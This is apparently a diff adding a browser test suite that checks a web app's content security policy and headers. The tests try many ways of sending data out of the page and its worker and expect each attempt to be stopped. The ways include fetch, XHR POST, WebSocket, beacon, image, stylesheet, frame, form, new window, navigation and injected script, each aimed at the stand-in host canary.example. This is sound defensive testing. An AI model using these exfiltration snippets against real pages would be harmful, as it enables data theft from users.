@@ -1,0 +1,144 @@
+import { readdirSync } from "node:fs";
+import { join, relative } from "node:path";
+import { afterAll, afterEach, beforeAll, describe, expect, inject, test } from "vitest";
+import { type OpenedApp, openApp } from "./open-app.ts";
+
+const away = "http://canary.example/";
+
+/** Ways for a page to send something out. Each resolves when it has had its chance. */
+const ways: Readonly<Record<string, string>> = {
+  fetch: `fetch("${away}fetch").then(() => "sent", () => "stopped")`,
+  "fetch without reading": `fetch("${away}opaque", { mode: "no-cors" }).then(() => "sent", () => "stopped")`,
+  XMLHttpRequest: `new Promise((done) => { const x = new XMLHttpRequest(); x.onload = () => done("sent"); x.onerror = () => done("stopped"); x.open("POST", "${away}xhr"); x.send("names"); })`,
+  WebSocket: `new Promise((done) => { try { const s = new WebSocket("ws://canary.example/socket"); s.onopen = () => done("sent"); s.onerror = () => done("stopped"); } catch { done("stopped"); } })`,
+  EventSource: `new Promise((done) => { const s = new EventSource("${away}events"); s.onopen = () => done("sent"); s.onerror = () => { s.close(); done("stopped"); }; })`,
+  "a beacon": `navigator.sendBeacon("${away}beacon", "names"), new Promise((done) => setTimeout(() => done("stopped"), 500))`,
+  "a picture": `new Promise((done) => { const i = new Image(); i.onload = () => done("sent"); i.onerror = () => done("stopped"); i.src = "${away}picture.png"; })`,
+  "a style": `new Promise((done) => { const l = document.createElement("link"); l.rel = "stylesheet"; l.onload = () => done("sent"); l.onerror = () => done("stopped"); l.href = "${away}style.css"; document.head.append(l); })`,
+  "a frame": `new Promise((done) => { const f = document.createElement("iframe"); f.src = "${away}frame"; f.onload = () => done("stopped"); document.body.append(f); setTimeout(() => done("stopped"), 500); })`,
+  "a form": `new Promise((done) => { const f = document.createElement("form"); f.action = "${away}form"; f.method = "post"; document.body.append(f); f.submit(); setTimeout(() => done("stopped"), 500); })`,
+};
+
+describe("the policy that the app is served with", () => {
+  let app: OpenedApp;
+  beforeAll(async () => {
+    app = await openApp({ webgl: false });
+    await app.page.getByRole("heading", { name: /Who could introduce me/ }).waitFor();
+  });
+  // Every attempt is refused aloud, so the ordinary end of a test, which forbids any complaint, is expected to fail here.
+  afterAll(async () => {
+    await expect(app.close()).rejects.toThrow(/canary\.example/);
+  });
+
+  test.each(Object.entries(ways))("stops %s", async (_, way) => {
+    expect(await app.page.evaluate<string>(way)).toBe("stopped");
+    expect(app.departures().arrived).toEqual([]);
+    expect(app.page.url().startsWith(app.address)).toBe(true);
+  });
+
+  test("stops a script from elsewhere and one that is written into the page", async () => {
+    const ran = await app.page.evaluate(async (address) => {
+      const load = (fill: (script: HTMLScriptElement) => void) =>
+        new Promise<string>((done) => {
+          const script = document.createElement("script");
+          script.onload = () => done("ran");
+          script.onerror = () => done("stopped");
+          try {
+            fill(script);
+          } catch {
+            done("stopped");
+          }
+          document.head.append(script);
+          setTimeout(() => done("ran" in window ? "ran" : "stopped"), 300);
+        });
+      return [
+        await load((script) => {
+          script.src = `${address}script.js`;
+        }),
+        await load((script) => {
+          script.text = "window.ran = true";
+        }),
+      ];
+    }, away);
+    expect(ran).toEqual(["stopped", "stopped"]);
+    expect(app.departures().arrived).toEqual([]);
+  });
+
+  test("holds in the worker too", async () => {
+    const { page } = app;
+    await page.getByRole("button", { name: /sample network/ }).click();
+    await page.getByRole("article").first().waitFor();
+    const [worker] = page.workers();
+    if (worker === undefined) throw new Error("no worker was started");
+    const tried = await worker.evaluate(async (address) => {
+      const sent = await fetch(`${address}from-worker`).then(
+        () => "sent",
+        () => "stopped",
+      );
+      const socket = await new Promise<string>((done) => {
+        try {
+          const opened = new WebSocket("ws://canary.example/from-worker");
+          opened.onopen = () => done("sent");
+          opened.onerror = () => done("stopped");
+        } catch {
+          done("stopped");
+        }
+      });
+      return [sent, socket];
+    }, away);
+    expect(tried).toEqual(["stopped", "stopped"]);
+    expect(app.departures().arrived).toEqual([]);
+  });
+});
+
+describe("the watch over what leaves", () => {
+  let app: OpenedApp | null = null;
+  afterEach(() => {
+    app = null;
+  });
+
+  test.each([
+    ["a new window", `void window.open("${away}window", "_blank")`],
+    ["leaving the page", `void (location.href = "${away}navigation")`],
+  ])("sees or stops %s, which no content policy forbids", async (_, way) => {
+    app = await openApp({ webgl: false });
+    const { page } = app;
+    await page.getByRole("heading", { name: /Who could introduce me/ }).waitFor();
+    await page.evaluate(way).catch(() => undefined);
+    await expect.poll(() => [...(app?.departures().asked ?? []), ...(app?.faults ?? [])].join(" ")).toContain("canary.example");
+    await expect(app.close()).rejects.toThrow(/canary\.example/);
+  });
+
+  test("sees a request of a page that no policy holds back", async () => {
+    app = await openApp({ webgl: false });
+    const page = await app.context.newPage();
+    await page.goto("about:blank");
+    await page.evaluate(`fetch("${away}names", { mode: "no-cors" }).catch(() => undefined)`);
+    await expect.poll(() => app?.departures().arrived.join(" ")).toContain("canary.example/names");
+    await expect(app.close()).rejects.toThrow(/canary\.example\/names/);
+  });
+});
+
+describe("what is served", () => {
+  test("every file carries the policy, the worker's among them", async () => {
+    const address = inject("address");
+    const built = join(import.meta.dirname, "../../dist/app");
+    const files = readdirSync(built, { recursive: true, withFileTypes: true })
+      .filter((entry) => entry.isFile() && entry.name !== "_headers")
+      .map((entry) => relative(built, join(entry.parentPath, entry.name)));
+    expect(files.some((file) => /host-.*\.js$/.test(file))).toBe(true);
+    for (const file of ["", ...files]) {
+      const { headers, ok } = await fetch(new URL(file, address));
+      const policy = headers.get("content-security-policy") ?? "";
+      expect({ file, ok, nosniff: headers.get("x-content-type-options"), referrer: headers.get("referrer-policy") }).toEqual({
+        file,
+        ok: true,
+        nosniff: "nosniff",
+        referrer: "no-referrer",
+      });
+      for (const rule of ["default-src 'none'", "connect-src 'none'", "form-action 'none'", "require-trusted-types-for 'script'"])
+        expect(policy).toContain(rule);
+      expect(policy).not.toMatch(/unsafe|\*|https?:/);
+    }
+  });
+});
